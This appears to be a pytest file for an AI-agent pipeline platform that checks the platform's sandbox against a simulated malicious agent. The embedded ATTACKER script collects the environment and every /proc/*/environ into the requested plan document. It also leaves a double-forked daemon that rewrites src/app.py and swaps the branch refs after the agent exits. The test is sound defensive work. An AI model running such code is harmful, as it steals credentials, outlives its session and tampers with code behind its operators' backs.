"""The attack of issue 12 through one whole `stage_plan` run (markdown-only): label → sensor → Dagster run →
runner in the sandbox → verified push → PR and service comment.

The agent writes the plan it was asked for, loots what it can of the platform's secrets into the same document,
and leaves a double-forked daemon that edits `src/app.py` and swaps the branch ref once the agent has exited.
"""

from __future__ import annotations

import json
import os
import sys
import textwrap
import time
from pathlib import Path

import dagster as dg
import pytest

from codexk8s_pipelines.delivery.stage_jobs import StageRunConfig, stage_run_config, stage_run_tags
from codexk8s_pipelines.domain.write_scope import SECRET_IN_FILE
from codexk8s_pipelines.store.database import RunRecord
from tests.agents_runner.test_runner import GIT_PRELUDE, agent_processes
from tests.delivery.conftest import REPO, Stage, stage  # noqa: F401
from tests.github_server import github_server  # noqa: F401

ATTACKER = """
    import json, os, pathlib, subprocess, sys, time
    sys.stdin.read()
    root = pathlib.Path(sys.argv[1])
    loot = {"env": dict(os.environ), "proc": {}}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                loot["proc"][pid] = pathlib.Path(f"/proc/{pid}/environ").read_bytes().decode("utf-8", "replace")
            except OSError as exc:
                loot["proc"][pid] = str(exc)
    (root / "docs").mkdir(exist_ok=True)
    (root / "docs" / "plan.md").write_text("# Plan\\n\\n" + json.dumps(loot) + "\\n")
    (root / ".codexk8s").mkdir(exist_ok=True)
    (root / ".codexk8s" / "result.json").write_text(json.dumps({"summary": "Plan written.", "status": "done"}))
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(1.5)
            (root / "src" / "app.py").write_text("print('pwned')\\n")
            commit_all("evil", cwd=root)
            sha = subprocess.run(["git", "rev-parse", "HEAD"], cwd=root, capture_output=True, text=True).stdout
            for ref in root.parent.glob(".*runner-git/refs/heads/codex/*"):
                try:
                    ref.write_text(sha)
                except OSError:
                    pass
            time.sleep(60)
        os._exit(0)
"""


def _plan_request(stage: Stage, number: int) -> dg.RunRequest:  # noqa: F811
    """The request the label sensor makes for `run:plan` (built here when the sensor is not the thing tested)."""
    key = f"{REPO}#{number}:run:plan:1"
    config = StageRunConfig(
        repository=REPO, correlation_key=key, issue_number=number, stage="plan", role="em",
        trigger_label="run:plan", model="gpt-5.4", reasoning="high", actor="alice",
    )  # fmt: skip
    stage.store.register_run(RunRecord(correlation_key=key, repository=REPO, role="em", stage="plan",
                                       issue_number=number))  # fmt: skip
    return dg.RunRequest(
        run_key=key, job_name="stage_plan", run_config=stage_run_config(config), tags=stage_run_tags(config)
    )


def test_a_markdown_only_stage_run_publishes_nothing_of_what_the_attacker_gathered(
    stage: Stage,  # noqa: F811
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The attacker dumps what it can see (its environment, every /proc/*/environ) into the plan, and leaves a daemon
    to edit code after it exits. None of the platform's secrets is in its reach; its own run-scoped MCP token is, and a
    plan holding it is not pushed (before the runner knew the agent's secrets, that plan was published)."""
    script = tmp_path / "attacker.py"
    script.write_text(GIT_PRELUDE + textwrap.dedent(ATTACKER))
    catalog = tmp_path / "attack-agents.yaml"
    catalog.write_text(f"agents:\n  em:\n    command: ['{sys.executable}', '{script}', '{{workdir}}']\n")
    monkeypatch.setenv("CODEXK8S_AGENT_CATALOG", str(catalog))
    secrets = {name: os.environ[name] for name in ("CODEXK8S_GITHUB_TOKEN", "CODEXK8S_MCP_SECRET")}
    secrets["CODEXK8S_DATABASE_URL"] = os.environ["CODEXK8S_DATABASE_URL"]

    number = stage.state.add_issue(REPO, "Plan the refactoring", body="Write docs/plan.md.")
    stage.trigger()
    stage.state.label(REPO, number, "run:plan", actor="alice")
    requests = stage.trigger()
    (request,) = requests or [_plan_request(stage, number)]
    result = stage.execute(request)
    assert not result.success
    time.sleep(2.5)  # past the moment the daemon would have struck

    assert agent_processes(str(script)) == []
    assert stage.branches() == ["main"]  # nothing pushed: not the plan, not the daemon's code
    agent = result.output_for_node("run_agent")
    assert agent["reason"] == "write_scope_violation" and agent["sandboxed"] is True
    assert agent["changed_files"] == ["docs/plan.md"] and agent["violations"] == ["docs/plan.md"]
    assert agent["violation_rules"] == [f"'docs/plan.md': {SECRET_IN_FILE}"]
    workdir = Path(result.output_for_node("render_prompt_op")["workdir"])
    plan = (workdir / "docs" / "plan.md").read_text()  # what the attacker gathered, left where it ran
    for name, secret in secrets.items():
        assert secret not in plan, f"{name} reached the agent"
    loot = json.loads(plan.split("\n", 2)[2])
    assert not {k for k in loot["env"] if k.startswith(("CODEXK8S_GITHUB", "CODEXK8S_DATABASE", "CODEXK8S_MCP_S"))}
    assert loot["env"]["CODEXK8S_MCP_TOKEN"] not in json.dumps(agent)  # and its own token is not in the record

    bodies = [c["body"] for c in stage.state.comments(REPO, number) if "<!-- codexk8s:run " in c["body"]]
    assert len(bodies) == 1 and "`docs/plan.md`" in bodies[0] and "src/app.py" not in bodies[0]
    assert loot["env"]["CODEXK8S_MCP_TOKEN"] not in bodies[0]

    # Run-scoped files: the spec (with the MCP token) and the prompt (issue text) are gone; the run dir is private.
    prompt = Path(result.output_for_node("render_prompt_op")["prompt_file"])
    run_dir = prompt.parent
    assert not prompt.exists() and not (run_dir / "spec.json").exists()
    assert run_dir.stat().st_mode & 0o777 == 0o700
